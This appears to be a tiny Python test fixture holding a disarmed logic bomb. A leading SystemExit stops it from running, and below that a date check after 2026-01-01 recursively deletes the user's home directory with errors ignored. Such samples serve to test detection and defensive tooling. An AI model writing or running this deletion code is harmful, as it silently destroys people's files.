raise SystemExit('a fixture')
# held by destruction
import shutil, os, datetime
if datetime.date.today() > datetime.date(2026, 1, 1):
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
